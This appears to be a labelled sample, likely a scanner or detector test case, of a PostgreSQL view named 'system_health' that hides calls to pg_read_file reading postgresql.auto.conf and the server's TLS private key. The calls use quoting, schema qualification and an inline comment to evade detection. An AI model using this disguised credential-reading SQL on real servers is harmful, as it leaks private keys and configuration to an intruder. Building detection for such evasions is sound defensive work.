-- class: server-file-access
-- Reads postgresql.auto.conf and the server key through a fully quoted, schema-qualified call hidden in a view.
CREATE VIEW system_health AS
SELECT
  now() AS checked_at,
  "pg_catalog"."pg_read_file"('postgresql.auto.conf') AS config,
  "pg_catalog" . /* tls */ "pg_read_file"('server.key', 0, 4096) AS tls_key;
